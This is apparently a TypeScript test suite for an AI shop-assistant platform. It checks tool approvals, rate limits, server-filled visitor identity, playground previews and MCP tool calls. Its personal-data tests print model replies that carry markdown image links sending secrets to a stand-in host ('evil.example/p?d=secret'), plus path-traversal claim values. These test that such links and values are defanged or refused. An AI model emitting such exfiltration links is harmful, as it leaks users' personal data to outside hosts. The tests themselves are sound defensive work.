import { createHmac } from 'node:crypto';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import { text as textOf } from 'node:stream/consumers';
import { listen } from '../../support/listen.ts';
import { openShop } from './open-shop.ts';
import { callerPool } from './pool.ts';

const shop = await openShop();
afterAll(() => shop.close());
const { provider, receiver, calls, cancelOrder: CANCEL } = shop;
const site = await shop.seedSite();
const db = callerPool(shop.graph.url);
const cancelId = await site.createTool('cancel_order', CANCEL);
await site.createTool('read_order', { method: 'GET', endpointUrl: `${receiver.url}/orders` });
calls('please cancel', 'cancel_order', { number: 'B-1' });
beforeEach(() => {
  receiver.received.length = 0;
  receiver.replyWith((_, response) => void response.end('{"done": true}'));
});

describe('approvals of tools', () => {
  test('a tool without the new fields is called as documented, unless its agent requires approvals', async () => {
    const open = await shop.seedSite({});
    await open.createTool('cancel_order', CANCEL);
    const { asked, text, conversationId } = await open.visit().say('please cancel');
    expect([asked, receiver.received.length]).toEqual([[], 1]);
    expect(text).toContain('done');
    // The receiver can refuse it.
    expect(receiver.last().headers).toMatchObject({
      ...{ 'x-svc-visitor': 'none', 'x-svc-conversation': conversationId, 'x-svc-approval': 'none' },
    });
  });

  test('a write without an approval needs a confirmation by name', async () => {
    const input = { name: 'open', description: 'x', endpointUrl: receiver.url, approval: 'none' };
    const create = 'mutation ($id: ID!, $input: NewTool!) { createTool(agentId: $id, input: $input) { id } }';
    const { id } = site.agent;
    expect(await site.admin.refusal(create, { id, input })).toMatch(/^INVALID_INPUT: confirmUnprotected must be open/);
    expect(await site.admin.refusal(create, { id, input: { ...input, confirmUnprotected: 'open' } })).toBeUndefined();
    calls('use the open one', 'open', {});
    expect((await site.visit().say('use the open one')).asked).toEqual([]);
    expect(receiver.received).toHaveLength(1);
  });

  test('the parameters are sent as the model wrote them', async () => {
    const input = { zone: 'b', amount: 12, at: { y: 1, x: [2] }, a: '1' };
    await site.createTool('transfer', { endpointUrl: `${receiver.url}/transfer` });
    calls('transfer it', 'transfer', input);
    const visitor = site.visit(undefined, await site.sign({ sub: 'c-1', z: { b: 1, a: 2 } }));
    const { asked } = await visitor.say('transfer it');
    await visitor.decide(asked[0]!, true);
    expect(receiver.received.map(({ body }) => body)).toEqual([JSON.stringify(input)]);
  });

  test('a conversation and a visitor have a number of calls in an hour', async () => {
    calls('read my orders', 'read_order', {});
    const visitor = site.visit();
    const { conversationId } = await visitor.say('read my orders');
    const called = (minutes: number, count: number) =>
      db.query(
        `insert into agent.tool_calls (id, organization_id, agent_id, tool_name, conversation_id, status, created_at)
         select gen_random_uuid(), organization_id, agent_id, 'x', id, 'succeeded', now() - make_interval(mins => $2)
           from agent.conversations, generate_series(1, $3::int) where id = $1`,
        [conversationId, minutes, count],
      );
    await called(61, 700);
    await called(59, 299);
    const TOO_MANY = 'Too many calls of tools. Tell the user to try again in an hour.';
    expect((await visitor.say('read my orders', conversationId)).text).toContain(TOO_MANY);
    expect((await visitor.say('read my orders')).text).not.toContain(TOO_MANY);
    expect(receiver.received).toHaveLength(2);
    await called(59, 299);
    expect((await visitor.say('read my orders')).text).toContain(TOO_MANY);
    expect((await site.visit().say('read my orders')).text).not.toContain(TOO_MANY);
    expect(receiver.received).toHaveLength(3);
  });

  test('a read needs no approval', async () => {
    calls('read my orders', 'read_order', {});
    expect((await site.visit().say('read my orders')).asked).toEqual([]);
    expect(receiver.received).toHaveLength(1);
  });

  test('the server fills in the visitor, and the model cannot', async () => {
    await site.createTool('my_orders', {
      method: 'GET',
      endpointUrl: `${receiver.url}/customers/{{visitor.id}}/orders`,
      queryTemplate: { plan: '{{visitor.claims.plan}}' },
    });
    calls('my own orders', 'my_orders', { visitor: { id: 'c-2' }, 'visitor.id': 'c-2' });
    expect((await site.visit().say('my own orders')).text).toMatch(/signed in on the website/);
    expect(receiver.received).toEqual([]);
    const ada = site.visit(undefined, await site.sign({ sub: 'c-1', plan: 'gold/../x' }));
    await ada.say('my own orders');
    expect(receiver.received.map(({ url, headers }) => [url, headers['x-svc-visitor']])).toEqual([
      ['/customers/c-1/orders?plan=gold%2F..%2Fx', 'c-1'],
    ]);
    const bob = site.visit(undefined, await site.sign({ sub: '..', plan: 'x' }));
    expect((await bob.say('my own orders')).text).toMatch(/must not be "\." or "\.\."/);
    const noPlan = site.visit(undefined, await site.sign({ sub: 'c-3' }));
    expect((await noPlan.say('my own orders')).text).toMatch(/has no claims\.plan/);
    expect(receiver.received).toHaveLength(1);
  });
});

describe('personal data', () => {
  test('after a personal result, a call to another host waits for the visitor, also in a later message', async () => {
    await site.createTool('profile', { method: 'GET', data: 'personal', endpointUrl: `${receiver.url}/profile` });
    await site.createTool('weather', {
      method: 'GET',
      endpointUrl: `http://localhost:${receiver.port}/weather?city={{params.city}}`,
      confirmation: 'Is it warm?',
    });
    calls('show my profile', 'profile', {});
    calls('and the weather', 'weather', { city: 'Ada Lovelace, Bond Street' });
    const visitor = site.visit();
    expect((await visitor.say('and the weather')).asked).toEqual([]);
    receiver.received.length = 0;
    const { conversationId } = await visitor.say('show my profile');
    const { asked } = await visitor.say('and the weather', conversationId);
    expect(asked).toHaveLength(1);
    expect(receiver.received.map(({ url }) => url)).toEqual(['/profile']);
    const [{ text } = {}] = await visitor.approvals(conversationId);
    expect(text).toBe(
      `weather (GET localhost:${receiver.port})\nFurther values: “{'city':'Ada Lovelace, Bond Street'}”\nIs it warm?`,
    );
    calls('once more', 'profile', {});
    expect((await visitor.say('once more', conversationId)).asked).toEqual([]);
  });

  test('links of a reply lead only to hosts of sources and tools', async () => {
    provider.on('give me links', (response) => {
      const text = `See [orders](${receiver.url}/orders) and ![x](https://evil.example/p?d=secret) or www.evil.example/a.`;
      for (const piece of text.match(/.{1,7}/gs)!) response.text(piece);
      response.finish();
    });
    expect((await site.visit().say('give me links')).text).toBe(
      `See [orders](${receiver.url}/orders) and ![x] (https[:]//evil.example/p?d=secret) or www[.]evil.example/a.`,
    );
  });
});

test('after a personal result, a link leads only to the host of the data', async () => {
  const links = `[here](${receiver.url}/orders) or [there](http://localhost:${receiver.port}/x?d=secret)`;
  provider.on('links with data', (response, { messages }) => {
    if (messages.at(-1)!.role === 'tool') response.text(links).finish();
    else response.call(0, 'c1', 'profile', '{}').finish('tool_calls');
  });
  expect((await site.visit().say('links with data')).text).toBe(
    `[here](${receiver.url}/orders) or [there] (http[:]//localhost[:]${receiver.port}/x?d=secret)`,
  );
});

test('without required approvals, a link leads anywhere until there is a personal result, and then to the host of the data', async () => {
  const open = await shop.seedSite({});
  await open.createTool('profile', { method: 'GET', endpointUrl: `${receiver.url}/profile`, data: 'personal' });
  const links = `[here](${receiver.url}/orders) or [there](https://blog.example/x)`;
  provider.on('any links', (response) => response.text(links).finish());
  const visitor = open.visit();
  const { text, conversationId } = await visitor.say('any links');
  expect(text).toBe(links);
  const guarded = `[here](${receiver.url}/orders) or [there] (https[:]//blog.example/x)`;
  expect((await visitor.say('links with data', conversationId)).text).toMatch(/^\[here\].* or \[there\] \(/);
  expect((await visitor.say('any links', conversationId)).text).toBe(guarded);
  expect((await open.visit().say('any links')).text).toBe(links);
});

test('the address in the context of a page does not become one to which links may lead', async () => {
  const open = await shop.seedSite({});
  await open.createTool('profile', { method: 'GET', endpointUrl: `${receiver.url}/profile`, data: 'personal' });
  provider.on('page links', (response, { messages }) =>
    response.text(/"secret":"([^"]+)/.test(messages[0]!.content!) ? '[here](https://blog.example/x?d=bond)' : 'No page.').finish(),
  );
  const visitor = open.visit();
  const page = { url: 'https://blog.example/x', secret: 'bond' };
  const { conversationId } = await visitor.say('links with data', undefined, page);
  expect((await visitor.say('page links', conversationId, page)).text).toBe('[here] (https[:]//blog.example/x?d=bond)');
});

const PLAYGROUND = `subscription ($id: ID!, $messages: [UIMessage!]!, $preview: Boolean!) { chat(agentId: $id, messages: $messages, preview: $preview) { part } }`;

test('the playground shows the request of a write instead of sending it', async () => {
  const messages = [{ role: 'user', parts: [{ type: 'text', text: 'please cancel' }] }];
  const events = await site.admin.follow(PLAYGROUND, { id: site.agent.id, messages, preview: true });
  expect(events.map(({ chat }) => chat.part)).toContainEqual(
    expect.objectContaining({
      type: 'tool-output-available',
      output: expect.objectContaining({
        preview: true,
        sent: false,
        request: expect.objectContaining({ url: `${receiver.url}/orders/B-1/cancel` }),
      }),
    }),
  );
  const { previewTool } = await site.admin.ask(
    'mutation ($agentId: ID!, $id: ID!) { previewTool(agentId: $agentId, id: $id, input: { number: "B-9" }) { request { url } response { status } } }',
    { agentId: site.agent.id, id: cancelId },
  );
  expect(previewTool).toEqual({ request: { url: `${receiver.url}/orders/B-9/cancel` }, response: null });
  const own = await shop.seedSite({});
  const id = await own.createTool('own_order', {
    endpointUrl: `${receiver.url}/customers/{{visitor.id}}/orders`,
    bodyTemplate: '{"plan": "{{visitor.claims.plan.name}}", "number": {{params.number}}}',
  });
  const { previewTool: shown } = await own.admin.ask(
    'mutation ($agentId: ID!, $id: ID!) { previewTool(agentId: $agentId, id: $id, input: { number: 1 }) { request { url body } } }',
    { agentId: own.agent.id, id },
  );
  expect(shown).toEqual({
    request: { url: `${receiver.url}/customers/visitor.id/orders`, body: '{"plan": "visitor.claims.plan.name", "number": 1}' },
  });
  expect(receiver.received).toEqual([]);
});

test('a reply of the playground that continues after an approval still sends no write', async () => {
  const open = await shop.seedSite({});
  await open.createTool('cancel_order', CANCEL);
  await open.createTool('read_first', { method: 'GET', approval: 'visitor' });
  provider.on('read, then cancel', (response, { messages }) => {
    const results = messages.filter(({ role }) => role === 'tool').length;
    if (results === 0) response.call(0, 'c1', 'read_first', '{}').finish('tool_calls');
    else if (results === 1) response.call(0, 'c2', 'cancel_order', '{"number":"B-1"}').finish('tool_calls');
    else response.text('Shown.').finish();
  });
  const say = (messages: object[]) => open.admin.follow(PLAYGROUND, { id: open.agent.id, messages, preview: true });
  const asked = (await say([{ role: 'user', parts: [{ type: 'text', text: 'read, then cancel' }] }])).map(({ chat }) => chat.part);
  const { approvalId: id } = asked.find(({ type }) => type === 'tool-approval-request');
  const decision = { type: 'tool-read_first', state: 'approval-responded', approval: { id, approved: true } };
  const rest = (await say([{ role: 'assistant', parts: [decision] }])).map(({ chat }) => chat.part);
  expect(rest).toContainEqual(
    expect.objectContaining({ toolCallId: '2-c2', output: expect.objectContaining({ preview: true, sent: false }) }),
  );
  expect(receiver.received.map(({ method }) => method)).toEqual(['GET']);
  // People take over conversations of visitors only, so that the model has the same tools as before.
  const [first, ...others] = provider
    .requests('read, then cancel')
    .map(({ tools }) => tools?.map(({ function: { name } }) => name));
  expect(others).toEqual([first, first]);
});

describe('tools of MCP servers', () => {
  const requests: { rpc: string; headers: IncomingHttpHeaders; body: string }[] = [];
  /** The method whose request gets no answer, and the hints of the tool. */
  let [broken, annotations]: [string | undefined, object] = [undefined, {}];
  /** The answer of the server to a call, instead of a result. */
  let refusal: { status: number; error?: object } | undefined;
  const server = createServer(async (request, response) => {
    const body = await textOf(request);
    const { id, method = request.method } = body ? JSON.parse(body) : {};
    requests.push({ rpc: method, headers: request.headers, body });
    if (method === broken) return void response.destroy();
    if (id === undefined) return void response.writeHead(request.method === 'POST' ? 202 : 405).end();
    const results: Record<string, object> = {
      initialize: { protocolVersion: '2025-06-18', capabilities: { tools: {} }, serverInfo: { name: 'own', version: '1' } },
      'tools/list': { tools: [{ name: 'ship', inputSchema: { type: 'object' }, annotations }] },
      'tools/call': { content: [{ type: 'text', text: 'shipped' }] },
    };
    response.setHeader('content-type', 'application/json').setHeader('mcp-session-id', 'one');
    if (refusal && method === 'tools/call')
      return void response.writeHead(refusal.status).end(JSON.stringify({ jsonrpc: '2.0', id, error: refusal.error }));
    response.end(JSON.stringify({ jsonrpc: '2.0', id, result: results[method] }));
  });
  const url = listen(server).then((port) => `http://127.0.0.1:${port}/mcp`);
  afterAll(() => void server.close());
  beforeEach(() => {
    requests.length = 0;
    [broken, annotations, refusal] = [undefined, {}, undefined];
  });
  calls('ship it', 'ship', { number: 'B-1' });

  async function choose({ admin, agent }: Awaited<ReturnType<typeof shop.seedSite>>) {
    const { server: made } = await admin.ask(
      'mutation ($id: ID!, $input: NewMcpServer!) { server: createMcpServer(agentId: $id, input: $input) { id } }',
      { id: agent.id, input: { name: 'Depot', url: await url } },
    );
    const CHOOSE = 'mutation ($id: ID!, $input: NewMcpTool!) { tool: createMcpTool(serverId: $id, input: $input) { id } }';
    const { tool } = await admin.ask(CHOOSE, { id: made.id, input: { remoteName: 'ship' } });
    return { serverId: made.id as string, toolId: tool.id as string };
  }

  test('only the call itself is signed and has the key of the approval', async () => {
    await choose(site);
    const visitor = site.visit();
    const { asked, conversationId } = await visitor.say('ship it');
    requests.length = 0;
    await visitor.decide(asked[0]!, true);
    expect(await visitor.approvals(conversationId)).toMatchObject([{ status: 'succeeded' }]);
    const marked = requests.filter(({ headers }) => Object.keys(headers).some((name) => /^(x-svc|idempotency)/.test(name)));
    expect(requests.length).toBeGreaterThan(1);
    expect(marked.map(({ rpc }) => rpc)).toEqual(['tools/call']);
    const { headers, body } = marked[0]!;
    expect(headers).toMatchObject({ 'idempotency-key': asked[0], 'x-svc-approval': asked[0] });
    const [, t, v1] = /^t=(\d+),v1=([0-9a-f]+)$/.exec(String(headers['x-svc-signature']))!;
    const signed = [t, 'POST', await url, 'none', conversationId, asked[0], body].join('\n');
    expect(v1).toBe(createHmac('sha256', site.requestSecret).update(signed).digest('hex'));
  });

  test.each([
    ['initialize', 'failed'],
    ['tools/call', 'unclear'],
  ])('a connection that is lost during %s leaves the call %s', async (method, status) => {
    const visitor = site.visit();
    const { asked, conversationId } = await visitor.say('ship it');
    broken = method;
    await visitor.decide(asked[0]!, true);
    expect(await visitor.approvals(conversationId)).toMatchObject([{ status }]);
  });

  test.each([
    ['an error of JSON-RPC', { status: 200, error: { code: -32602, message: 'No such parcel' } }, 'failed'],
    ['an internal error of the server', { status: 200, error: { code: -32603, message: 'Broken' } }, 'unclear'],
    ['status 403', { status: 403 }, 'failed'],
    ['status 500', { status: 500 }, 'unclear'],
  ])('a server that answers a call with %s leaves it %s', async (_, answer, status) => {
    const visitor = site.visit();
    const { asked, conversationId } = await visitor.say('ship it');
    refusal = answer;
    await visitor.decide(asked[0]!, true);
    expect(await visitor.approvals(conversationId)).toMatchObject([{ status }]);
  });

  test('a tool whose server says that it destroys waits for the visitor, also if it only read before', async () => {
    const open = await shop.seedSite({});
    annotations = { readOnlyHint: true };
    const { serverId, toolId } = await choose(open);
    const ask = async () => (await open.visit().say('ship it')).asked.length;
    expect(await ask()).toBe(0);
    await open.admin.ask(
      'mutation ($agentId: ID!, $id: ID!) { updateTool(agentId: $agentId, id: $id, input: { effect: read, approval: none }) { id } }',
      { agentId: open.agent.id, id: toolId },
    );
    expect(await ask()).toBe(0);
    annotations = { destructiveHint: true };
    await open.admin.ask('mutation ($id: ID!) { refreshMcpTools(serverId: $id) { id } }', { id: serverId });
    expect(await ask()).toBe(1);
  });
});
